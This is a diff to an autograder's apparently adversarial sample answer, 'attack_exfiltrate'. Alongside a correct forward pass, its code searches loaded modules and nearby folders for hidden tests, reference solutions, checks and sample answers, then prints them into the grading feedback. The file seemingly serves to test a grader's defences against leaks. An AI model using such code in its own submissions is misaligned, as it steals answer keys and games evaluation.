@@ -1,7 +1,8 @@
 """Sample answers 'attack_exfiltrate': correct answers, plus an nn_forward_pass that prints the
-source of every instructor module it can find (inspect.getsource of any hidden-test module in
-sys.modules, and files named reference.py, checks.py, *.ipynb and answers.py above the working
-folder or under COURSEKIT_ROOT), hoping the feedback shows them.
+source of every instructor module it can find (inspect.getsource of any module in sys.modules
+that the kit preloaded or that lives under assignments/, and the checks, reference, source
+notebooks and sample answers above the working folder or under COURSEKIT_ROOT), hoping the
+feedback shows them.
 """
 import torch
 
@@ -14,26 +15,29 @@ def nn_forward_pass(params, X):
         import sys
         from pathlib import Path
 
-        found = 0
+        texts = []
         for name, module in list(sys.modules.items()):
-            if name.startswith("_coursekit_") or "reference" in name:
+            where = str(getattr(module, "__file__", None) or "")
+            if name.startswith("_coursekit_") or "/assignments/" in where:
                 try:
-                    print(inspect.getsource(module))
-                    found += 1
+                    texts.append(inspect.getsource(module))
                 except Exception as err:  # noqa: BLE001
                     print("no source for", name, type(err).__name__)
         roots = [Path.cwd(), *Path.cwd().parents]
         if os.environ.get("COURSEKIT_ROOT"):
             roots.insert(0, Path(os.environ["COURSEKIT_ROOT"]))
+        patterns = ("assignments/*/*.py", "assignments/*/checks/*.py", "source/*/*.ipynb",
+                    "assignments/*/samples/*/answers.py")
         for root in roots:
-            for pattern in ("assignments/*/*.py", "source/*/*.ipynb", "assignments/*/samples/*/answers.py"):
+            for pattern in patterns:
                 try:
-                    for path in sorted(root.glob(pattern))[:5]:
-                        print(path, path.read_text()[:20000])
-                        found += 1
+                    texts += [f"{path} {path.read_text()[:20000]}"
+                              for path in sorted(root.glob(pattern))[:5]]
                 except Exception as err:  # noqa: BLE001
                     print("cannot read under", root, type(err).__name__)
-        print(f"exfiltrate: found {found} instructor files or modules")
+        # the count first: the output of a cell may be cut after a megabyte
+        print(f"exfiltrate: found {len(texts)} instructor files or modules")
+        print("\n".join(texts))
     W1, b1 = params["W1"], params["b1"]
     W2, b2 = params["W2"], params["b2"]
     hidden = (X @ W1 + b1).clamp(min=0)  # (N, H)
